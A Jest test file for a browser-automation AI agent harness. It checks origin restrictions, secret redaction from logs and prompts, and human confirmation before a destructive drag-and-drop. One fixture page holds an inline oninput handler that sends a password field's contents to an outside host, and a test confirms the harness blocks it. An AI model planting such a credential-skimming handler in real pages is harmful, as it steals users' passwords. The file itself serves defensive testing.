import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { createServer, type Server } from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { assignThenFinish, click, say, startHarness, type Answer, type Harness } from '../../support/agent-harness.js';
import { sharedServerAddress } from '../../support/temporal-server.js';

describe('the agent in a real browser', () => {
  let harness: Harness;
  let inside: Site;
  let outside: Site;
  const typed: string[] = [];
  const dropped: string[] = [];
  const arrived: string[] = [];

  beforeAll(async () => {
    outside = await startSite((path) => {
      arrived.push(path);
      return '<title>Outside</title><h1>Forbidden words</h1>';
    });
    inside = await startSite((path, body) => {
      if (path === '/typed') typed.push(body);
      if (path === '/dropped') dropped.push(body);
      if (path === '/board') return board;
      if (path === '/curious') return curious(outside.url);
      if (path === '/redirect') return { redirect: outside.url };
      return `<title>Inside</title><h1>Welcome</h1>
        <a href="${outside.url}">Leave</a> <a href="/redirect">Moved</a>
        <form method="post" action="/typed"><label>Password <input type="password" name="p"></label><label>Nickname <input name="n"></label><button>Save</button></form>`;
    });
    harness = await startHarness({
      address: sharedServerAddress(),
      env: { STEADYHAND_SECRET_DOOR: 'open-sesame', STEADYHAND_SECRET_SAFE: 'shut-sesame' },
      config: {
        kinds: ['web'],
        slots: 1,
        secrets: { DOOR: { origins: [inside.url] }, SAFE: { origins: [inside.url], lockNetwork: true } },
      },
    });
  });
  afterAll(async () => {
    await harness?.close();
    await inside?.close();
    await outside?.close();
  });

  const navigate = (url: string): Answer => ({ Function: 'navigate', Args: { url }, Status: 'CONTINUE', Comment: `go to ${url}` });
  const told = (run: Parameters<Harness['asked']>[0]): string =>
    harness
      .asked(run)
      .map(({ text }) => text)
      .join('\n');

  test('A74: an action, a link and a redirect that lead outside the allowed origins end inside, the model is told and never sees that page', async () => {
    const run = await harness.run(
      { host: assignThenFinish, app: [navigate(outside.url), click('Leave'), click('Moved'), say('FINISH', { Result: 'stayed' })] },
      { request: 'try to leave', device: { kind: 'web', url: inside.url } },
    );
    const result = await run.handle.result();
    expect(result).toMatchObject({ outcome: 'completed', previousSubtasks: [{ result: 'stayed' }] });
    expect(result.blackboard.trajectories[0]?.result).toContain('origin-refused');
    expect(told(run).match(/origin-refused/g)?.length).toBeGreaterThanOrEqual(3);
    expect(told(run)).not.toContain('Forbidden words');
  });

  test('a secret is typed by its name: the page gets it, history, records and prompts do not, and its field is masked', async () => {
    const run = await harness.run(
      {
        host: assignThenFinish,
        app: [
          ({ find }) => ({
            Function: 'set_edit_text',
            Args: { text: '{{secret:DOOR}}', clear_current_text: true },
            ControlLabel: find('pw', /Password/)?.label,
            ControlText: 'Password',
            Status: 'CONTINUE',
          }),
          click('Save'),
          say('FINISH', { Result: 'saved' }),
        ],
      },
      { request: 'log in', device: { kind: 'web', url: inside.url } },
    );
    const result = await run.handle.result();
    expect(result.outcome).toBe('completed');
    expect(new URLSearchParams(typed.at(-1)).get('p')).toBe('open-sesame');
    await expectNowhere(run, 'open-sesame');
  });

  test('LK22: what a page with a locked secret sends elsewhere is refused, the model is told, and the login goes on', async () => {
    arrived.length = 0;
    const run = await harness.run(
      {
        host: assignThenFinish,
        app: [
          ({ find }) => ({
            Function: 'set_edit_text',
            Args: { text: '{{secret:SAFE}}', clear_current_text: true },
            ControlLabel: find('pw', /Password/)?.label,
            ControlText: 'Password',
            Status: 'CONTINUE',
          }),
          click('Save'),
          say('FINISH', { Result: 'saved' }),
        ],
      },
      { request: 'log in', device: { kind: 'web', url: `${inside.url}/curious` } },
    );
    expect((await run.handle.result()).outcome).toBe('completed');
    expect(new URLSearchParams(typed.at(-1)).get('p')).toBe('shut-sesame');
    expect(arrived).toEqual([]);
    expect(told(run)).toContain(`to ${outside.url}. What may be reached is set by secrets.SAFE.lockNetwork.`);
    await expectNowhere(run, 'shut-sesame');
  });

  test('HE44: a password that the model types by itself reaches the page, and stands in no history, record or later prompt', async () => {
    const run = await harness.run(
      {
        host: assignThenFinish,
        app: [
          ({ find }) => ({
            Function: 'set_edit_text',
            Args: { text: 'made-up-by-the-model', clear_current_text: true },
            ControlLabel: find('pw', /Password/)?.label,
            ControlText: 'Password',
            Status: 'CONTINUE',
            Thought: 'I choose made-up-by-the-model.',
            Comment: 'typed made-up-by-the-model',
          }),
          click('Save'),
          say('FINISH', { Result: 'saved' }),
        ],
      },
      { request: 'choose a password', device: { kind: 'web', url: inside.url } },
    );
    expect((await run.handle.result()).outcome).toBe('completed');
    expect(new URLSearchParams(typed.at(-1)).get('p')).toBe('made-up-by-the-model');
    await expectNowhere(run, 'made-up-by-the-model');
    const files = await filesBelow(harness.config.shared);
    expect(files.length).toBeGreaterThan(3);
    for (const file of files) expect([file, (await readFile(file)).includes('made-up-by-the-model')]).toEqual([file, false]);
  });

  const point = (args: object, name: string): Answer => ({ Function: name, Args: args, Status: 'CONTINUE' });
  const dragOnto =
    (zone: string): Answer =>
    ({ find }) => ({
      ...point({ from: '', to: find('btn', new RegExp(`^${zone}$`))?.label, via: [], hold: true }, 'drag'),
      ControlLabel: find('btn', /^Card$/)?.label,
    });

  test('HE10: what is held is told, and let go after another look; a person is asked where it would be dropped on something that deletes', async () => {
    const run = await harness.run(
      {
        host: assignThenFinish,
        app: [
          dragOnto('Archive'),
          point({}, 'release_pointer'),
          dragOnto('Delete'),
          point({}, 'release_pointer'),
          say('FINISH', { Result: 'moved' }),
        ],
      },
      { request: 'tidy up', device: { kind: 'web', url: `${inside.url}/board` } },
    );
    const approval = await run.asks('confirmation');
    expect(dropped).toEqual(['Archive']);
    expect(approval).toMatchObject({ actions: [{ function: 'release_pointer' }], reason: expect.stringContaining('dropped on "Delete"') });
    await run.handle.signal('confirm', { requestId: approval.requestId, approved: true });
    expect((await run.handle.result()).outcome).toBe('completed');
    expect(dropped).toEqual(['Archive', 'Delete']);
    expect(told(run)).toContain('! The mouse is held at 0.');
  });

  /** Neither as it is nor in base64. */
  async function expectNowhere(run: Parameters<Harness['asked']>[0], secret: string): Promise<void> {
    const history = JSON.stringify(await harness.client.workflow.getHandle(run.id).fetchHistory());
    for (const text of [history, told(run), JSON.stringify(await harness.records(run))]) {
      expect(text).not.toContain(secret);
      expect(text).not.toContain(Buffer.from(secret).toString('base64'));
    }
  }
});

const curious = (elsewhere: string): string => `<title>Curious</title>
  <form method="post" action="/typed"><label>Password <input type="password" name="p" oninput="new Image().src = '${elsewhere}/seen?' + encodeURIComponent(this.value)"></label><button>Save</button></form>`;

const board = `<title>Board</title><style>[role] { position: absolute; top: 100px; width: 120px; height: 80px; background: #ddd }</style>
  ${['Card', 'Archive', 'Delete'].map((name, index) => `<div role="button" tabindex="0" style="left: ${50 + 250 * index}px">${name}</div>`).join('')}
  <script>
    const [card, ...zones] = document.querySelectorAll('[role]');
    card.draggable = true;
    card.ondragstart = ({ dataTransfer }) => dataTransfer.setData('text/plain', 'card');
    for (const zone of zones) {
      zone.ondragover = (event) => event.preventDefault();
      zone.ondrop = (event) => { event.preventDefault(); fetch('/dropped', { method: 'POST', body: zone.textContent }); };
    }
  </script>`;

async function filesBelow(folder: string): Promise<readonly string[]> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  return entries.filter((entry) => entry.isFile()).map(({ parentPath, name }) => join(parentPath, name));
}

interface Site {
  readonly url: string;
  close(): Promise<void>;
}

async function startSite(page: (path: string, body: string) => string | { readonly redirect: string }): Promise<Site> {
  const server: Server = createServer(async (request, response) => {
    const chunks: Buffer[] = [];
    for await (const chunk of request) chunks.push(chunk as Buffer);
    const answer = page(request.url ?? '/', Buffer.concat(chunks).toString());
    if (typeof answer === 'string') response.writeHead(200, { 'content-type': 'text/html' }).end(answer);
    else response.writeHead(302, { location: answer.redirect }).end();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    async close() {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
}
